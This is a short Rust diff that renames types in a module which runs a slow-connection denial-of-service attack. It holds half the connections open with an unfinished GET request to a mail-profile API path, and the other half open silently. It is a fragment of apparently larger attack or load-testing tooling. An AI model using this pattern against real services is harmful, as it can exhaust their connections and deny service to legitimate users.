@@ -3,13 +3,13 @@
 use std::sync::Arc;
 
 use super::connection::head;
-use super::scene::Scene;
-use super::slow::{self, Slow};
+use super::scene::AttackContext;
+use super::slow::{self, SlowConnections};
 
 /// Runs the attack until it is over.
-pub async fn run(scene: &Arc<Scene>) -> anyhow::Result<()> {
+pub async fn run(scene: &Arc<AttackContext>) -> anyhow::Result<()> {
     let half = scene.orders.connections / 2;
     let request = head("GET", "/mail/v1/users/me/profile", None, "\r\n");
-    let nothing = Slow { name: "silent", connections: half, opening: String::new(), piece: b"" };
-    slow::run_all(scene, vec![Slow { name: "kept", opening: request, ..nothing.clone() }, nothing]).await
+    let nothing = SlowConnections { name: "silent", connections: half, opening: String::new(), chunk: b"" };
+    slow::run_all(scene, vec![SlowConnections { name: "kept", opening: request, ..nothing.clone() }, nothing]).await
 }
